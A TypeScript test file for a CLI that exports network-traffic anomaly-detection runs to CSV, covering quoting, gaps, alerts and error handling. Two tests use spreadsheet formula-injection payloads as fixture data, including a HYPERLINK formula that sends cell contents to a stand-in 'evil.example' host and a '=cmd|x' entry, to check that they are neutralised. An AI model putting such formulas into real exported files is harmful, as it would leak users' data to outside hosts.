import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { exportMain } from '../../src/cli/export.ts';
import { UserError } from '../../src/errors.ts';
import { labelIntervals, readFixtureRun, writeFakeReplay } from '../report/fakeReplay.ts';
import { copyCybermonday, tempDir, writeRun } from '../report/runFixture.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

/** Minimal CSV reader for the checks (quoted fields with "" escapes; no newlines inside). */
function readCsv(path: string): string[][] {
  return readFileSync(path, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => {
      const out: string[] = [];
      const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
      let m: RegExpExecArray | null;
      while ((m = re.exec(line)) && m[0] !== '') {
        out.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!);
        if (m[2] === '') break;
      }
      return out;
    });
}

describe('npm run export', () => {
  let dir: string;
  let runDir: string;
  before(() => {
    dir = tempDir('export');
    runDir = copyCybermonday(dir);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('writes the traffic in long form: one row per interval, edge and metric, with the run’s values', async () => {
    const out: string[] = [];
    assert.equal(await exportMain([runDir], (t) => out.push(t)), 0);
    const { snapshots } = readFixtureRun(runDir);
    const rows = readCsv(join(runDir, 'export', 'traffic.csv'));
    assert.deepEqual(rows[0], ['run', 't', 'src', 'dst', 'metric', 'value']);
    const expected: string[][] = [];
    for (const s of snapshots) {
      for (const e of s.edges) {
        for (const m of ['tcp_sent_bytes', 'tcp_received_bytes']) expected.push(['run', String(s.t), e.src, e.dst, m, String(e[m] ?? 0)]);
      }
    }
    assert.deepEqual(rows.slice(1), expected);
    assert.match(out.join(''), /traffic\.csv {2}\d+ rows/);
    assert.match(out.join(''), /no scores\.csv or alerts\.csv \(run npm run replay/);
  });

  it('writes service names a spreadsheet would run as formulas with a leading apostrophe', async () => {
    const hostile = tempDir('export-formula');
    try {
      const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
      const runPath = join(hostile, 'run');
      writeRun(runPath, { name: 'formula', intervalSeconds: 2, metrics: ['request_bytes'], services: ['front-end', FORMULA, '@SUM(1+1)', 'user-db'] }, [
        { t: 1002, dt: 2, edges: [{ src: 'front-end', dst: FORMULA, request_bytes: 5 }, { src: '@SUM(1+1)', dst: 'user-db', request_bytes: 7 }] },
      ], []);
      assert.equal(await exportMain([runPath], () => {}), 0);
      const rows = readCsv(join(runPath, 'export', 'traffic.csv'));
      assert.deepEqual(rows.slice(1), [
        ['run', '1002', 'front-end', `'${FORMULA}`, 'request_bytes', '5'],
        ['run', '1002', "'@SUM(1+1)", 'user-db', 'request_bytes', '7'],
      ]);
    } finally {
      rmSync(hostile, { recursive: true, force: true });
    }
  });

  it('lists every interval with its gap, attack and grace flags', async () => {
    await exportMain([runDir], () => {});
    const { snapshots, events } = readFixtureRun(runDir);
    const rows = readCsv(join(runDir, 'export', 'intervals.csv'));
    assert.deepEqual(rows[0], ['run', 't', 'dt', 'gap', 'attack', 'grace']);
    const { attack, grace } = labelIntervals(snapshots, events);
    assert.deepEqual(
      rows.slice(1),
      snapshots.map((s, i) => ['run', String(s.t), String(s.dt), String(s.gap === true), String(attack[i]), String(grace[i])]),
    );
    // Each of the five attacks is the slice Munnin scored: one interval each (t ≈ +205, +210, +305,
    // +315, +320 s). The interval after each is its grace interval unless the next attack holds it:
    // +215 (after +210), +310 (after +305), +325 (after +320); +210 and +320 are attack intervals.
    const at = (column: number) => rows.slice(1).flatMap((r) => (r[column] === 'true' ? [Math.round(Number(r[1]) - 1500000000)] : []));
    assert.deepEqual(at(4), [205, 210, 305, 315, 320]);
    assert.deepEqual(at(5), [215, 310, 325]);
  });

  it('exports replay’s scores with run, variant, training, attack and grace columns, to the folder asked for', async () => {
    const fake = writeFakeReplay(runDir, join(runDir, 'replay'), [{ name: 'edges', threshold: 20, score: (s) => s.edges.length }], 3);
    const out = join(dir, 'elsewhere');
    const printed: string[] = [];
    await exportMain([runDir, '--out', out], (t) => printed.push(t));
    const rows = readCsv(join(out, 'scores.csv'));
    assert.deepEqual(rows[0], ['run', 'variant', 't', 'detector', 'score', 'threshold', 'alarm', 'training', 'attack', 'grace']);
    const { snapshots } = readFixtureRun(runDir);
    // The first 3 intervals trained: rows without a score, training true; then replay's rows.
    const training = [0, 1, 2].map((i) => ['run', '', String(snapshots[i]!.t), 'edges', '', '', '', 'true', 'false', 'false']);
    const scored = fake.scoredPositions.map((i) => {
      const s = snapshots[i]!;
      return ['run', '', String(s.t), 'edges', String(s.edges.length), '20', String(s.edges.length > 20), 'false', String(fake.attack[i]), String(fake.grace[i])];
    });
    assert.deepEqual(rows.slice(1), [...training, ...scored]);
    assert.ok(existsSync(join(out, 'traffic.csv')));
    assert.match(printed.join(''), /alerts\.csv {2}\d+ rows/);
  });

  it('writes alerts.csv: one row per alarm and blamed edge, ranked, names neutralised for spreadsheets', async () => {
    const odd = join(dir, 'alerts-run');
    writeRun(odd, { name: 'alerts', intervalSeconds: 5, metrics: ['response_bytes'] }, [
      { t: 1005, dt: 5, edges: [{ src: 'front-end', dst: 'user', response_bytes: 10 }] },
      { t: 1010, dt: 5, edges: [{ src: 'front-end', dst: 'user', response_bytes: 90 }] },
      { t: 1015, dt: 5, edges: [{ src: 'front-end', dst: 'user', response_bytes: 10 }] },
    ], [{ kind: 'exfiltration', start: 1005, end: 1010, path: ['user', 'front-end'] }]);
    mkdirSync(join(odd, 'replay'), { recursive: true });
    writeFileSync(join(odd, 'replay', 'scores.csv'), 't,detector,score,threshold,alarm\n1005,d,1,3,false\n1010,d,9,3,true\n1015,d,Infinity,3,true\n');
    writeFileSync(
      join(odd, 'replay', 'alerts.ndjson'),
      [
        { t: 1010, dt: 5, detector: 'd', score: 9, threshold: 3, attack: true, blamed: [{ src: 'front-end', dst: 'user', metric: 'response_bytes', score: 7 }, { src: '=cmd|x', dst: 'user', score: 'Infinity' }] },
        { t: 1015, dt: 5, detector: 'd', score: 'Infinity', threshold: 3, attack: false, blamed: [] },
      ].map((a) => `${JSON.stringify(a)}\n`).join(''),
    );
    assert.equal(await exportMain([odd], () => {}), 0);
    // (1005, 1010] shares time with [1005, 1010); (1000, 1005] only touches it.
    assert.equal(
      readFileSync(join(odd, 'export', 'alerts.csv'), 'utf8'),
      'run,variant,t,detector,score,threshold,attack,rank,src,dst,metric,blamedScore\n' +
        'alerts-run,,1010,d,9,3,true,1,front-end,user,response_bytes,7\n' +
        "alerts-run,,1010,d,9,3,true,2,'=cmd|x,user,,\n" +
        'alerts-run,,1015,d,,3,false,,,,,\n', // non-finite numbers are left empty (missing, to pandas and R)
    );
  });

  it('quotes names holding commas and quotes, and leaves gaps out of the traffic', async () => {
    const odd = join(dir, 'odd');
    writeRun(odd, { intervalSeconds: 1, metrics: ['requests'] }, [
      { t: 1, dt: 1, edges: [{ src: 'a,"b"', dst: 'c', requests: 3 }] },
      { t: 2, dt: 1, gap: true, edges: [] },
    ], []);
    await exportMain([odd], () => {});
    const text = readFileSync(join(odd, 'export', 'traffic.csv'), 'utf8');
    assert.equal(text, 'run,t,src,dst,metric,value\nodd,1,"a,""b""",c,requests,3\n');
    assert.equal(readFileSync(join(odd, 'export', 'intervals.csv'), 'utf8'), 'run,t,dt,gap,attack,grace\nodd,1,1,false,false,false\nodd,2,1,true,false,false\n');
  });

  it('refuses a missing run directory or a stray argument with a user error', async () => {
    await assert.rejects(exportMain([join(dir, 'no-such-run')]), (e: unknown) => e instanceof UserError && /no-such-run: no such run directory/.test(e.message));
    await assert.rejects(exportMain([]), (e: unknown) => e instanceof UserError && /expected one run directory/.test(e.message));
    await assert.rejects(exportMain([runDir, '--bogus']), (e: unknown) => e instanceof UserError && /bogus/.test(e.message));
  });

  it('runs as a program: exit 0 with the files listed, exit 2 with a one-line error', () => {
    const ok = spawnSync(process.execPath, ['--import', 'tsx', 'src/cli/export.ts', runDir, '--out', join(dir, 'cli')], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(ok.status, 0, ok.stderr);
    assert.match(ok.stdout, /intervals\.csv {2}72 rows/);
    const bad = spawnSync(process.execPath, ['--import', 'tsx', 'src/cli/export.ts', join(dir, 'missing')], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(bad.status, 2);
    assert.match(bad.stderr, /^error: .*missing: no such run directory\n$/);
  });

  it('warns, as replay does, about a last line cut off mid-write (tester ti, 6: reported as silent; not reproduced)', () => {
    // 30 whole lines, then the first 300 characters of the 31st without its newline: a run killed while writing.
    const half = join(dir, 'half');
    mkdirSync(half);
    const fixture = join(ROOT, 'test', 'fixtures', 'default-benign-runs', 'run2');
    writeFileSync(join(half, 'run.json'), readFileSync(join(fixture, 'run.json')));
    const lines = readFileSync(join(fixture, 'snapshots.ndjson'), 'utf8').split('\n');
    writeFileSync(join(half, 'snapshots.ndjson'), `${lines.slice(0, 30).join('\n')}\n${lines[30]!.slice(0, 300)}`);
    const r = spawnSync(process.execPath, ['--import', 'tsx', 'src/cli/export.ts', half], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.ok(r.stderr.includes(`warn: ${join(half, 'snapshots.ndjson')}:31: last line is incomplete (run interrupted while writing it); ignored\n`), r.stderr);
    assert.match(r.stdout, /intervals\.csv {2}30 rows/);
  });
});
